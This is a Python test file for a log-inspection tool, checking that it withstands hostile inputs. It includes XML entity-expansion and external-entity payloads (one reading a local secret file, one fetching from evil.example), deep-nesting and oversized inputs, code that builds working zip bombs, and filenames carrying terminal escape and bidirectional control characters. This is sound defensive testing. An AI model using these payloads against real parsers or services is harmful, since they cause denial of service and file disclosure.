"""Logs made by somebody with bad intent, through the whole program: opened, looked into, judged and reported; bounded, and said clearly."""

from __future__ import annotations

import io
import os
import socket
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from inspector.archives import Limits, unpack
from inspector.casefile import Case, CaseSource, load, save
from inspector.cli import main
from inspector.events import Zone
from inspector.ingest.discovery import candidates
from inspector.job import Job
from inspector.report.base import Program, gather, redactor_for
from inspector.report.html import report_html
from inspector.report.redaction import ALWAYS
from inspector.session import Options, Session

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="devices, pipes and names of POSIX")

LOG = "2024-05-21 10:04:58 ERROR The security token could not be authenticated or authorized\n"
SECRET = "what /etc/shadow holds"
MANY = 30_000

SOAP = '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>{}</s:Body></s:Envelope>'
EVENT = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='P'/><EventID>1</EventID></System><EventData><Data>{}</Data></EventData></Event>"
TRACE = '<E2ETraceEvent xmlns="http://schemas.microsoft.com/2004/06/E2ETraceEvent"><ApplicationData>{}</ApplicationData></E2ETraceEvent>'
WEBINFO = '<log><inputMessage utc="3/14/2006 2:07:32 PM" messageId="uuid:1"><processingStep description="x">{}</processingStep></inputMessage></log>'
LINE = "2024-05-21 10:04:58 ERROR refused {}\n"
JSON = '{{"@timestamp": "2024-05-21T10:04:58Z", "message": "x", "more": {}}}\n'


def laughs(into: str) -> str:
    """Entities that grow to ten to the twelfth, and one that reads a file; used where ``into`` has its place."""
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + number)} "{f"&{chr(97 + number)};" * 10}">' for number in range(11)
    )
    return (
        f'<!DOCTYPE x [{entities}<!ENTITY file SYSTEM "file://SECRET"><!ENTITY % net SYSTEM "http://evil.example/x"> %net;]>'
        + into.format("<v>&l;&file;</v>")
    )


HOSTILE: dict[str, str] = {
    **{f"entities in {name}": laughs(text) for name, text in {"soap": SOAP, "event": EVENT, "trace": TRACE, "webinfo": WEBINFO}.items()},
    "entities in a line": LINE.format(laughs(SOAP).replace("\n", " ")),
    **{
        f"deep {name}": text.format("<a>" * MANY + "</a>" * MANY)
        for name, text in {"soap": SOAP, "event": EVENT, "trace": TRACE, "webinfo": WEBINFO, "line": LINE}.items()
    },
    "deep json": JSON.format("[" * MANY + "]" * MANY),
    "deep json in a line": LINE.format('{"a":' * MANY),
    "deep brackets": LINE.format("(" * MANY),
    "a huge attribute": EVENT.format(f'<a b="{"x" * 3_000_000}"/>'),
    "many attributes": LINE.format(SOAP.format("<a " + " ".join(f'b{number}="1"' for number in range(MANY)) + "/>")),
    "many name spaces": LINE.format(SOAP.format("<a " + " ".join(f'xmlns:b{number}="urn:{number}"' for number in range(5_000)) + "/>")),
    "one long quadratic text": LINE.format("&lt;a x=&quot;" * MANY),
    "steps that never end": WEBINFO.format("<processingStep>" * MANY),
    "frames that never end": LINE + "   at A.B(" * MANY,
    "a line of megabytes": LINE.format("x" * 3_000_000),
    "no line at all": "\0" * 3_000_000,
}


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    with Session(Options(workers=1), tmp_path_factory.mktemp("work")) as made:
        yield made


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_log_is_shown_and_harms_nothing(name: str, session: Session, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    path = tmp_path / "hostile.log"
    path.write_text(HOSTILE[name].replace("SECRET", str(secret)), encoding="utf-8")
    sources = session.open([path], Job())
    if not sources:
        assert session.problems[-1].source == str(path), "refused, and said"
        return
    (source,) = sources
    try:
        assert source.events or source.problems
        assert not any("made no progress" in problem.reason or "crashed" in problem.reason for problem in source.problems), source.problems
        details = [session.inspect(row) for row in range(min(len(session), 3))]
        report = gather(session, Job(), program=Program("x", "0"), now=datetime(2024, 5, 21, tzinfo=UTC))
        page = report_html(report, redactor_for(report, ALWAYS))
        shown = [
            page,
            *(text for one in details for text in (one.raw, one.message, *(payload.pretty for payload in one.contents.payloads))),
        ]
        assert SECRET not in "".join(shown)
        assert sum(map(len, shown)) < 100 * path.stat().st_size + 2_000_000
        assert all(one.contents.problems == () for one in details)
    finally:
        session.remove(source.id)


# --- what is no log -----------------------------------------------------------------------------------------------------


def test_devices_pipes_and_sockets_are_refused_wherever_they_are_met(session: Session, tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "good.log").write_text(LOG)
    os.mkfifo(folder / "pipe.log")
    listening = socket.socket(socket.AF_UNIX)
    listening.bind(str(folder / "s"))
    (folder / "zero.log").symlink_to("/dev/zero")
    (folder / "round.log").symlink_to(folder)
    by_name = tmp_path / "zero.log"
    by_name.symlink_to("/dev/zero")
    before = len(session.problems)
    with listening:
        sources = session.open([folder, by_name, folder / "pipe.log", Path("/dev/tty"), tmp_path / "loop"], Job())
    assert [Path(source.name).name for source in sources] == ["good.log"]
    said = sorted((Path(problem.source).name, problem.reason.split(",")[0]) for problem in session.problems[before:])
    assert said == [
        ("loop", "there is no such file or folder"),
        ("pipe.log", "this is a pipe"),
        ("pipe.log", "this is a pipe"),
        ("round.log", "a link in a folder is not followed; open its target by name"),
        ("s", "this is a socket"),
        ("tty", "this is a device"),
        ("zero.log", "a link in a folder is not followed; open its target by name"),
        ("zero.log", "this is a device"),
    ]
    session.remove(sources[0].id)


@pytest.mark.skipif(sys.platform != "linux", reason="file systems of Linux")
@pytest.mark.parametrize("path", ["/proc/kcore", "/proc/self/mem", "/proc/kmsg", "/proc/self/environ", "/sys/kernel/uevent_seqnum"])
def test_the_state_of_the_running_system_is_no_log(path: str) -> None:
    if not Path(path).exists():
        pytest.skip("this system has none")
    found, (problem,) = candidates([Path(path)])
    assert found == []
    assert problem.reason.startswith("this is the running system's own state")


def test_a_folder_of_nothing_but_links_and_folders_is_bounded_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("inspector.ingest.discovery.MOST_FILES", 10)
    for number in range(8):
        (tmp_path / f"{number}.log").symlink_to("/etc/passwd")
        (tmp_path / f"folder {number}" / "below").mkdir(parents=True)
    found, problems = candidates([tmp_path])
    assert found == []
    assert len(problems) <= 11
    assert problems[-1].reason.startswith("the folder holds more than 10 files; the rest was left out")


def test_a_case_that_names_devices_opens_none_of_them(session: Session, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    sources = tuple(
        CaseSource(name, name, 1, "", "lines", "", Zone()) for name in ("/dev/zero", str(pipe), "/proc/self/mem", "a\0b", "x" * 5000)
    )
    case = tmp_path / "evil.inspection"
    save(Case(sources=sources), case)
    before = len(session.problems)
    assert session.open([Path(one.path) for one in load(case).sources], Job()) == ()
    assert len(session.problems) == before + len(sources)


# --- archives -----------------------------------------------------------------------------------------------------------


def overlapping(count: int, size: int) -> bytes:
    """A zip whose members all are the same bytes (David Fifield, "A better zip bomb", 2019): small, and huge when unpacked."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(size)) + packer.flush()
    checksum = zlib.crc32(bytes(size))
    name = b"a.log"
    shared = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, checksum, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + shared + name + packed
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + shared + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + end


@pytest.mark.parametrize("count", [3, 5000])
def test_members_that_overlap_are_bounded(count: int, tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    path.write_bytes(overlapping(count, 1_000_000))
    into = tmp_path / "into"
    into.mkdir()
    limits = Limits(size=20_000_000, free=5_000_000, ratio=50)
    unpacked = unpack(path, "bomb.zip", into, limits=limits)
    assert sum(one.stat().st_size for one in into.iterdir()) <= limits.size
    assert len(unpacked.members) + len(unpacked.problems) >= min(count, 5)
    if count == 5000:
        assert unpacked.problems


def test_a_zip_that_holds_itself_many_times_is_bounded(tmp_path: Path) -> None:
    content = b"x" * 1000
    for level in range(4):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(16):
                archive.writestr(f"{number}.{'zip' if level else 'log'}", content)
        content = out.getvalue()
    path = tmp_path / "42.zip"
    path.write_bytes(content)
    into = tmp_path / "into"
    into.mkdir()
    unpacked = unpack(path, "42.zip", into, limits=Limits(files=1000))
    assert len(unpacked.members) <= 1000
    assert unpacked.problems
    assert all(one.suffix == ".log" for one in into.iterdir())


# --- names --------------------------------------------------------------------------------------------------------------

NAME = "log\x1b[31m\x07\u202egpj.\u2066evil\n<b>&.log"


def harmless(text: str) -> bool:
    """Nothing in it moves a cursor, rings a bell or turns the direction of reading."""
    return not any(unicodedata.category(letter) in {"Cc", "Cf", "Cs"} and letter not in "\n\t\u200b" for letter in text)


@pytest.mark.parametrize(
    "arguments", [["findings"], ["events"], ["events", "--format", "csv"], ["show", "--event", "1"], ["findings", "--format", "markdown"]]
)
def test_names_of_files_cannot_paint_the_terminal(arguments: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / NAME
    path.write_text(LOG)
    fifo = tmp_path / (NAME + "pipe")
    os.mkfifo(fifo)
    main([arguments[0], str(path), str(fifo), *arguments[1:]])
    said = capsys.readouterr()
    assert harmless(said.err), ascii(said.err)
    if "csv" not in arguments:  # a file for programs: the name stands in it as it is, quoted
        assert harmless(said.out), ascii(said.out)


def test_names_of_files_are_text_in_the_report(tmp_path: Path) -> None:
    path = tmp_path / NAME
    path.write_text(LOG)
    report = tmp_path / "report.html"
    main(["report", str(path), "-o", str(report)])
    page = report.read_text(encoding="utf-8")
    assert "&lt;b&gt;&amp;.log" in page
    assert "<b>&" not in page
    assert harmless(page), [ascii(line) for line in page.splitlines() if not harmless(line)][:3]
